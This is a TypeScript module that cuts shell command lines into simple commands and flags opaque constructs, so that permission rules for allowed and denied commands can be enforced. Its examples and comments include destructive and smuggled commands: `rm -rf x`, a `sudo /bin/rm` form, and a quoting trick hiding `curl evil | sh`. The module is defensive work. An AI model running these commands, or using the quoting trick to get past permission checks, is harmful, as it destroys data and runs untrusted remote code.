/**
 * A shell command line cut into the simple commands it runs, for permission rules: `npm test &&
 * rm -rf x` is two commands, and a rule that allows `npm test *` must not allow the second. The
 * cut follows POSIX quoting (single quotes, double quotes, backslash) well enough to keep an
 * operator inside quotes from splitting; it is a guard for what a rule names, not a shell parser.
 *
 * @module
 */

/** A command line cut at its control operators. */
export interface CommandLine {
  /** The simple commands, each trimmed, its runs of blanks made one space. */
  readonly commands: readonly string[];
  /**
   * Whether the line does more than its commands say: a command substitution (`$(...)`,
   * backticks), a process substitution, a here-document (its body is not commands, so cutting
   * it at newlines would misread what follows), or output redirected into a file (`> out`,
   * `>& out`; `2>&1`, `>&-` and `> /dev/null` do not count). An allow rule never covers such a
   * line.
   */
  readonly opaque: boolean;
}

// `&&`, `||`, `|&` before their one-character prefixes.
const OPERATORS = ["&&", "||", "|&", ";;", ";", "|", "&", "\n"];

/**
 * Cuts `line` at `;`, `&&`, `||`, `|`, `&` and newlines outside quotes.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { splitCommandLine } from "./_command_line.ts";
 * assert.deepEqual(splitCommandLine("npm test && echo 'a;b'"), {
 *   commands: ["npm test", "echo 'a;b'"],
 *   opaque: false,
 * });
 * assert.equal(splitCommandLine("echo $(whoami)").opaque, true);
 * assert.equal(splitCommandLine("npm test > log.txt").opaque, true);
 * assert.equal(splitCommandLine("npm test 2>&1 >/dev/null").opaque, false);
 * ```
 */
export function splitCommandLine(line: string): CommandLine {
  const commands: string[] = [];
  let current = "";
  // `$'` is bash's ANSI-C quoting, where `\'` does not end the quote: read as a plain `'`, a
  // line such as `npm test $'\'' ; curl evil | sh ; echo \'` would hide its middle command.
  let quote: "'" | "$'" | '"' | undefined;
  let opaque = false;
  // Whether the next character begins a word: only there does `#` begin a comment. Reading a
  // comment's quotes as quotes would hide the commands on the lines after it.
  let wordStart = true;
  const flush = (): void => {
    const command = current.trim().replace(/\s+/g, " ");
    if (command !== "") commands.push(command);
    current = "";
  };
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (quote === "'" || quote === "$'") {
      if (quote === "$'" && char === "\\" && i + 1 < line.length) {
        current += char + line[i + 1];
        i++;
        continue;
      }
      current += char;
      if (char === "'") quote = undefined;
      continue;
    }
    const starts: boolean = wordStart;
    wordStart = quote === undefined && METACHARACTERS.includes(char);
    if (char === "\\" && i + 1 < line.length) {
      // A backslash-newline is removed before words are read: it does not end a word's start.
      if (line[i + 1] === "\n") wordStart = starts;
      current += char + line[i + 1];
      i++;
      continue;
    }
    if (char === "`" || (char === "$" && line[i + 1] === "(")) opaque = true;
    // Bash reads quotes inside `${...}` even within double quotes, so one there would make the
    // quoting read here differ from bash's: such a parameter, or `$[...]`, is not seen through.
    if (char === "$" && line[i + 1] === "[") opaque = true;
    if (char === "$" && line[i + 1] === "{" && !matchesAt(PLAIN_PARAMETER, line, i + 1)) {
      opaque = true;
    }
    if (quote === '"') {
      current += char;
      if (char === '"') quote = undefined;
      continue;
    }
    if (char === "#" && starts) {
      const end = line.indexOf("\n", i);
      i = (end === -1 ? line.length : end) - 1;
      wordStart = true;
      continue;
    }
    // `$$` is the shell's process id: a quote after it is a plain one.
    if (char === "$" && line[i + 1] === "$") {
      current += "$$";
      i++;
      continue;
    }
    if (char === "$" && line[i + 1] === "'") {
      quote = "$'";
      current += "$'";
      i++;
      continue;
    }
    if (char === "'" || char === '"') {
      quote = char;
      current += char;
      continue;
    }
    if ((char === "<" || char === ">") && line[i + 1] === "(") opaque = true;
    if (char === "<" && line[i + 1] === "<" && line[i + 2] !== "<" && line[i - 1] !== "<") {
      opaque = true;
    }
    if (char === ">" && writesFile(line, i)) opaque = true;
    const operator = OPERATORS.find((op) => line.startsWith(op, i));
    // `>&` and `&>` are redirections, not the background operator.
    if (operator !== undefined && !(char === "&" && (line[i - 1] === ">" || line[i + 1] === ">"))) {
      flush();
      i += operator.length - 1;
      continue;
    }
    current += char;
  }
  flush();
  return { commands, opaque };
}

// Blanks and the characters that end a word outside quotes.
const METACHARACTERS = " \t\n;&|()<>";

// Whether the `>` at `at` sends output into a file: not `>&2`, `2>&1`, `>&-`, nor `/dev/null`.
// `>&` before anything but a descriptor (`>& out.txt`) writes a file, as `&>` does.
function writesFile(line: string, at: number): boolean {
  let i = at + 1;
  if (line[i] === ">") i++;
  if (line[i] === "&") return !matchesAt(DESCRIPTOR, line, i);
  while (line[i] === " " || line[i] === "\t") i++;
  return !matchesAt(DEV_NULL, line, i);
}

// Sticky patterns, tried at one place of the line (no copy of the rest of it per try).
const PLAIN_PARAMETER = /\{[^}'"`\\$\n]*\}/y;
const DESCRIPTOR = /&(?:\d+|-)(?=[\s;&|()<>]|$)/y;
const DEV_NULL = /\/dev\/null(?=[\s;&|()<>]|$)/y;

function matchesAt(pattern: RegExp, line: string, at: number): boolean {
  pattern.lastIndex = at;
  return pattern.test(line);
}

// Words before a command that leave it the same command: variable assignments, grouping, `!`,
// the keywords that lead a command in a compound one, and the common wrappers.
const LEADING_WORD = new RegExp(
  String.raw`(?:[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|"[^"]*"|[^\s'"])*|[({!]|` +
    String.raw`(?:if|then|else|elif|do|while|until|time|command|builtin|exec|env|nohup|sudo)` +
    String.raw`(?=\s|$))\s*`,
  "y",
);

/**
 * `command` as the program it runs, for deny and ask rules to see through what leads it:
 * `FOO=1 sudo /bin/rm -rf x` is `rm -rf x`, `(rm x` is `rm x`, `\rm x` is `rm x`. Only ever a
 * second reading next to the command as written: an allow rule is never matched against it,
 * since what it drops (an environment variable, `sudo`) can change what the command does.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { bareCommand } from "./_command_line.ts";
 * assert.equal(bareCommand("FOO='a b' sudo /bin/rm -rf x"), "rm -rf x");
 * assert.equal(bareCommand("{ \\rm x"), "rm x");
 * assert.equal(bareCommand("npm test"), "npm test");
 * ```
 */
export function bareCommand(command: string): string {
  const line = command.trim();
  let at = 0;
  while (matchesAt(LEADING_WORD, line, at)) at = LEADING_WORD.lastIndex;
  // `\rm` and `/bin/rm` run `rm` (a function or alias of that name aside).
  return line.slice(at).replace(/^\\/, "").replace(/^[^\s'"]*\/(?=[^\s/])/, "");
}
